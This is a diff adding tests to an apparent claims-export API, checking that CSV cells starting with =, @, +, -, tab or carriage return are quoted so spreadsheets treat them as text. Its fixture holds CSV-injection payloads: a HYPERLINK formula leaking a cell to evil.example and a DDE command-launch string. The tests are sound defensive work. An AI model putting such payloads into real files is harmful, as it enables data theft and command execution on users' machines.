@@ -8,11 +8,13 @@ its amounts are computed by hand from the table in shared/DOMAIN.md (see tests/l
 import csv
 import io
 import json
+from decimal import Decimal
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
 
+from app.claims.export import DecimalMark, csv_cell
 from tests.support.builders import firm_headers
 from tests.support.lifecycle import claim_for, get_claim, line, setup_request
 
@@ -121,3 +123,57 @@ def test_export_of_another_firms_claim_answers_404(client, export_claim):
     _, other = firm_headers(client)
     response = client.get(f"/v1/claims/{export_claim['claim']['id']}/export", headers=other)
     assert response.status_code == 404
+
+
+# --- CSV injection: a cell a spreadsheet would run as a formula stays text ------------------
+
+FORMULAS = {
+    "F1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "F2": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "F3": "+1",
+    "-REF": "-cmd",
+}
+
+
+def test_csv_export_quotes_cells_that_start_a_formula(client):
+    ctx, request_id = setup_request(client)
+    lines = [line(ref, employee_name=name) for ref, name in FORMULAS.items()]
+    claim = claim_for(client, ctx, request_id, "2020-06", lines)
+    response = export(client, ctx, claim["id"], format="csv")
+    assert response.status_code == 200, response.text
+    text = response.content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    names = {row[0]: row[1] for row in rows[1:-1]}
+    assert names == {
+        "F1": "'" + FORMULAS["F1"],
+        "F2": "'" + FORMULAS["F2"],
+        "F3": "'+1",
+        "'-REF": "'-cmd",
+    }
+    # the numbers stay numbers
+    assert rows[1][4:6] == ["151,67", "80,00"]
+    # the JSON export is data, not a spreadsheet: unchanged
+    body = export(client, ctx, claim["id"], format="json").json()
+    assert [ln["employee_name"] for ln in body["lines"]] == list(FORMULAS.values())
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("\tSUM(A1)", "'\tSUM(A1)"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-cmd", "'-cmd"),
+        ("Jean-Marie", "Jean-Marie"),
+        ("", ""),
+        (None, ""),
+        (Decimal("-12.50"), "-12,50"),
+        (Decimal("12.50"), "12,50"),
+        (3, "3"),
+    ],
+)
+def test_csv_cells_neutralise_formulas_but_not_numbers(value, cell):
+    assert csv_cell(value, DecimalMark.comma) == cell
+
+
+def test_a_negative_amount_stays_a_number_with_a_decimal_point():
+    assert csv_cell(Decimal("-12.50"), DecimalMark.point) == "-12.50"
